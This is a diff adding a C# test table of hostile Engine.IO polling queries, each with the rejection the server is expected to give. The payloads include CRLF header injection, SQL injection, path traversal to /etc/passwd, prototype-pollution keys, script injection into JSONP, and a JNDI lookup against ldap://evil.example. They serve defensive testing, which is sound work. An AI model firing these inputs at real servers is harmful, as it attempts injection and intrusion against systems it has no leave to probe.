@@ -1,0 +1,88 @@
+using static EngineIo.Tests.Hostile.Answers;
+using static EngineIo.Tests.Hostile.Requests.HostileRequest;
+
+namespace EngineIo.Tests.Hostile.Requests;
+
+/// <summary>Queries that are not what they seem.</summary>
+internal static class QueryRows
+{
+    private const string Session = "EIO=4&transport=polling&sid=";
+
+    public static Table<HostileRequest> All { get; } = new()
+    {
+        ["no query at all"] = new(To("GET", "/engine.io/"), E(0)),
+        ["a question mark and no query"] = new(Get(""), E(0)),
+        ["a query of separators"] = new(Get("&&&=&==&"), E(0)),
+        ["a space behind the transport"] = new(Get("EIO=4&transport=polling%20"), E(0)),
+        ["a NUL behind the transport"] = new(Get("EIO=4&transport=polling%00"), E(0)),
+        ["a line end and a header behind the transport"] = new(Get("EIO=4&transport=polling%0d%0aX-Evil:%201"), E(0)),
+        ["the transport escaped once: the same text"] = new(Get("EIO=4&transport=%70olling"), Open),
+        ["the transport escaped twice"] = new(Get("EIO=4&transport=%2570olling"), E(0)),
+        ["the transport in full-width letters"] = new(Get("EIO=4&transport=%EF%BD%90olling"), E(0)),
+        ["the transport with a dotless i"] = new(Get("EIO=4&transport=poll%C4%B1ng"), E(0)),
+        ["the transport with a Kelvin sign"] = new(Get("EIO=4&transport=websoc%E2%84%AAet"), E(0)),
+        ["the transport with half an escape"] = new(Get("EIO=4&transport=polling%"), E(0)),
+        ["the transport with an overlong slash"] = new(Get("EIO=4&transport=polling%c0%af"), E(0)),
+        ["two transports in one"] = new(Get("EIO=4&transport=polling,websocket"), E(0)),
+        ["two transports, polling first"] = new(Get("EIO=4&transport=polling&transport=websocket"), E(0)),
+        ["two transports, polling last"] = new(Get("EIO=4&transport=websocket&transport=polling"), E(0)),
+        ["the same transport twice"] = new(Get("EIO=4&transport=polling&transport=polling"), E(0)),
+        ["an empty transport beside a right one"] = new(Get("EIO=4&transport=&transport=polling"), Open),
+        ["the transport as an array"] = new(Get("EIO=4&transport[]=polling"), E(0)),
+        ["the transport as an element"] = new(Get("EIO=4&transport[0]=polling"), E(0)),
+        ["the transport as an object"] = new(Get("EIO=4&transport[toString]=polling"), E(0)),
+        ["the transport as a property of the prototype"] = new(Get("EIO=4&__proto__[transport]=polling"), E(0)),
+        ["semicolons between the fields"] = new(Get("EIO=4;transport=polling"), E(0)),
+        ["a fragment behind the query"] = new(Get("EIO=4&transport=polling#x"), E(0)),
+        ["a second question mark"] = new(Get("EIO=4&transport=polling?"), E(0)),
+        ["separators as HTML writes them"] = new(Get("EIO=4&amp;transport=polling"), E(0)),
+        ["2,000 fields that nobody asked for"] = new(Get($"{string.Concat(Enumerable.Repeat("a&", 2000))}EIO=4&transport=polling"), Open),
+        ["a query longer than the web server takes"] = new(Get($"EIO=4&transport=polling&a={new string('a', 9000)}"), "414 "),
+        ["a value of 7,000 bytes"] = new(Get($"EIO=4&transport={new string('p', 7000)}"), E(0)),
+        ["a script as the transport"] = new(Get("EIO=4&transport=%3Cscript%3Ealert(1)%3C/script%3E"), E(0)),
+
+        ["version 4.0"] = new(Get("EIO=4.0&transport=polling"), E(5)),
+        ["version 04"] = new(Get("EIO=04&transport=polling"), E(5)),
+        ["version 0x4"] = new(Get("EIO=0x4&transport=polling"), E(5)),
+        ["version 4e0"] = new(Get("EIO=4e0&transport=polling"), E(5)),
+        ["version -4"] = new(Get("EIO=-4&transport=polling"), E(5)),
+        ["version 0"] = new(Get("EIO=0&transport=polling"), E(5)),
+        ["a version of 5,000 digits"] = new(Get($"EIO={new string('4', 5000)}&transport=polling"), E(5)),
+        ["an Arabic 4"] = new(Get("EIO=%D9%A4&transport=polling"), E(5)),
+        ["a version and a NUL"] = new(Get("EIO=4%00&transport=polling"), E(5)),
+        ["version 4 twice"] = new(Get("EIO=4&EIO=4&transport=polling"), E(5)),
+        ["versions 4 and 3"] = new(Get("EIO=4&EIO=3&transport=polling"), E(5)),
+        ["the version escaped: the same text"] = new(Get("EIO=%34&transport=polling"), Open),
+        ["the version as an array"] = new(Get("EIO[]=4&transport=polling"), E(5)),
+
+        ["the sid of another, in front of a space"] = new(Get($"{Session}SID%20"), E(1)),
+        ["the sid of another, behind a space"] = new(Get($"{Session}+SID"), E(1)),
+        ["the sid of another and a NUL"] = new(Get($"{Session}SID%00"), E(1)),
+        ["the sid of another and a line end"] = new(Get($"{Session}SID%0d%0a"), E(1)),
+        ["the sid of another as a folder"] = new(Get($"{Session}SID/"), E(1)),
+        ["the sid of another twice"] = new(Get($"{Session}SID&sid=SID"), E(1)),
+        ["the sids of two others"] = new(Get($"{Session}SID&sid=WID"), E(1)),
+        ["an empty sid beside a right one"] = new(Get($"{Session}&sid=SID"), "200 4kept"),
+        ["the sid as an array: a handshake"] = new(Get("EIO=4&transport=polling&sid[]=SID"), Open),
+        ["the sid under another name: a handshake"] = new(Get("EIO=4&transport=polling&session=SID&id=SID"), Open),
+        ["an empty sid: a handshake"] = new(Get(Session), Open),
+        ["a wildcard as the sid"] = new(Get($"{Session}*"), E(1)),
+        ["a per cent sign as the sid"] = new(Get($"{Session}%25"), E(1)),
+        ["SQL as the sid"] = new(Get($"{Session}%27%20OR%201=1--"), E(1)),
+        ["a look-up of a logger as the sid"] = new(Get($"{Session}$%7Bjndi:ldap://evil.example/x%7D"), E(1)),
+        ["a property of all objects as the sid"] = new(Get($"{Session}constructor"), E(1)),
+        ["a path as the sid"] = new(Get($"{Session}../../../etc/passwd"), E(1)),
+        ["an emoji as the sid"] = new(Get($"{Session}%F0%9F%98%80"), E(1)),
+        ["a format item as the sid"] = new(Get($"{Session}%7B0%7D%25s%25n"), E(1)),
+        ["a sid of a length that was never made"] = new(Get($"{Session}{new string('A', 4000)}"), E(1)),
+        ["a sid of the right length that is nobody's"] = new(Get($"{Session}{new string('_', 20)}"), E(1)),
+        ["a sid with the version of another protocol"] = new(Get("EIO=3&transport=polling&sid=SID"), E(3)),
+        ["a sid without a version"] = new(Get("transport=polling&sid=SID"), E(3)),
+        ["a sid on a transport that is none"] = new(Get("EIO=4&transport=flashsocket&sid=SID"), E(0)),
+        ["polling with the sid of a WebSocket"] = new(Get($"{Session}WID"), E(3)),
+        ["a sid in the query of a handshake by JSONP"] = new(Get($"{Session}nobody&j=0"), E(1)),
+        ["a function of the page as the index of JSONP"] = new(Get($"{Session}SID&j=alert"), E(3)),
+        ["a script as the index of JSONP"] = new(Get($"{Session}SID&j=0%5D%3Balert(1)%2F%2F"), E(3)),
+        ["an index of JSONP of 21 digits"] = new(Get($"{Session}SID&j={new string('1', 21)}"), E(3)),
+    };
+}
